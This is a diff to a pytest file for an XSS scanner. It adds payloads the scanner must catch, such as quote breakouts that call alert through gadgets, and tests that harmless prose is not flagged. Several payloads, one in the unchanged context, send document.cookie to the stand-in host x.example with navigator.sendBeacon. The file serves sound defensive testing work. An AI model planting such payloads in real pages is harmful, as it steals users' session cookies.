@@ -303,7 +303,24 @@ def test_joined_strings_that_make_no_script_pass(value: str) -> None:
         "<details open ontoggle" + "\x0c" * 9 + "=\"navigator.sendBeacon('//x.example/b',document.cookie)\">",
         '" autofocus onfocus="new Proxy(alert,{})(1)" x="',  # handler code opening with new/void
         "' autofocus onfocus='void Reflect.apply(alert,0,[1])' x='",
+        '"-new Proxy(alert,{})(1)-"',  # a JavaScript string broken out of, the sink handed to a gadget
+        '";[alert][0](1)//',
+        "';(1,alert)(1)//",
+        "';navigator.sendBeacon('//x.example/b',document.cookie)//",  # the cookie sent as an argument
     ],
 )
 def test_handlers_that_fired_in_a_browser(payload: str) -> None:
     assert xss.scan(payload, CTX) is not None, payload
+
+
+def test_a_word_opening_a_quoted_value_is_text_unless_it_names_an_event() -> None:
+    assert xss.scan('<p title="onion = good">ok</p>', CTX) is None
+    assert xss.scan('<img src="x"onerror=alert(1)>', CTX) is not None  # after a closing quote it runs
+    assert xss.scan('<p title="onion = x" onerror=alert(1)>', CTX) is not None
+
+
+@pytest.mark.parametrize(
+    "value", ["Choose a level (alert, warning, info)", "Reflect.apply is a function", "read it with document.cookie"]
+)
+def test_prose_naming_those_gadgets_is_text(value: str) -> None:
+    assert xss.scan(value, CTX) is None
